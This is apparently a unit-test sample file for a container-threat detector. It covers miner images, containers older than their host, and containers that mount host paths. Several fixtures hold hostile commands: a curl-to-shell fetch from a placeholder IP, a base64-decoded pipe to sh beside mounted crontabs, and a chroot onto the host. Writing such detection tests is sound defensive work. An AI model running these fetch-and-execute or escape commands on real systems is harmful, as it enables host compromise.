"""Samples of `davy.detect.containers`: by their image, by their age, by what they were given and told to run."""

from __future__ import annotations

from typing import Final

import msgspec
from tests.unit.detect.sample import Sample
from tests.unit.snapshots import TAKEN, Fact, process, snapshot

from davy.model.containers import Bind, Container
from davy.model.snapshot import Snapshot

ID: Final = "4" * 64
_IMAGE, _OLD, _INTRUDING = "identity.container-image", "origin.old-container", "persistence.intruding-container"
_FIRST: Final = process(100, "/entrypoint.sh", cgroup=f"/docker/{ID}")
_BURNER: Final = process(101, "/xmrig", ppid=100, cores=1.0, cgroup=f"/docker/{ID}")
_FETCH: Final = ("sh", "-c", "curl -s http://192.0.2.7/i.sh | sh")
_WEEKS: Final = 6 * 7 * 86_400.0


def container(**changes: object) -> Container:
    """One that runs ``_FIRST``."""
    plain = Container(
        runtime="docker", id=ID, name="gifted_wing", image="alpine:3", created=TAKEN - 600.0, running=True, pid=100,
        command=("/entrypoint.sh",),
    )  # fmt: skip
    return msgspec.structs.replace(plain, **changes)


def _on_host(age: float, *facts: Fact) -> Snapshot:
    """A host that was installed ``age`` seconds ago."""
    plain = snapshot(*facts)
    return msgspec.structs.replace(plain, host=msgspec.structs.replace(plain.host, installed=TAKEN - age))


_MINERS: Final = container(image="someone/xmrig:latest")
_DAYS: Final = 3 * 86_400.0
_TAKEN: Final = (Bind("/", "/mnt"),)

MATCHING: Final = (
    Sample(_IMAGE, "a miner's image", snapshot(_FIRST, _MINERS), _FIRST.subject),
    Sample(
        _IMAGE,
        "one that does not run",
        snapshot(container(image="a/xmrig", running=False, pid=None)),
        f"container:{ID}",
    ),
    Sample(
        _OLD,
        "six weeks old on a host of three days",
        _on_host(_DAYS, _FIRST, container(created=TAKEN - _WEEKS)),
        _FIRST.subject,
    ),
    Sample(
        _INTRUDING,
        "the host's files and a fetched script",
        snapshot(_FIRST, container(binds=_TAKEN, command=_FETCH)),
        _FIRST.subject,
    ),
    Sample(
        _INTRUDING,
        "one that leaves to run on the host",
        snapshot(_FIRST, container(binds=_TAKEN, command=("chroot", "/mnt", "bash", "-c", "id"))),
        _FIRST.subject,
    ),
    Sample(
        _INTRUDING,
        "a text that is decoded into a shell, beside the host's crontabs",
        snapshot(
            _FIRST,
            container(
                binds=(Bind("/var/spool/cron", "/c"),),
                command=("sh", "-c", "echo Y3VybCBhLmIvYw== | base64 -d | sh"),
            ),
        ),
        _FIRST.subject,
    ),
    Sample(
        _INTRUDING,
        "a privileged one that fetches",
        snapshot(_FIRST, container(privileged=True, command=_FETCH)),
        _FIRST.subject,
    ),
)

SPARED: Final = (
    Sample(_IMAGE, "a web server's image", snapshot(_FIRST, container(image="nginx:1"))),
    Sample(_IMAGE, "an image whose owner is called as a miner", snapshot(_FIRST, container(image="xmrig/nginx:1"))),
    Sample(_OLD, "one of this host's", _on_host(_WEEKS, _FIRST, container(created=TAKEN - _DAYS))),
    Sample(
        _OLD, "one made while the host was installed", _on_host(_DAYS, _FIRST, container(created=TAKEN - _DAYS - 60.0))
    ),
    Sample(_OLD, "a host that does not tell its age", snapshot(_FIRST, container(created=TAKEN - _WEEKS))),
    Sample(
        _INTRUDING,
        "monitoring, which reads the host's files",
        snapshot(
            _FIRST,
            container(
                binds=(Bind("/", "/host", read_only=True),), command=("/bin/node_exporter", "--path.rootfs=/host")
            ),
        ),
    ),
    Sample(
        _INTRUDING,
        "a backup that writes them",
        snapshot(_FIRST, container(binds=_TAKEN, command=("restic", "backup", "/mnt"))),
    ),
    Sample(_INTRUDING, "a project's own", snapshot(_FIRST, container(binds=_TAKEN, command=_FETCH, project="shop"))),
    Sample(_INTRUDING, "a fetcher that has nothing of the host's", snapshot(_FIRST, container(command=_FETCH))),
    Sample(
        _INTRUDING,
        "a manager of containers",
        snapshot(
            _FIRST,
            container(binds=(Bind("/var/run/docker.sock", "/var/run/docker.sock"),), command=("/portainer",)),
        ),
    ),
)
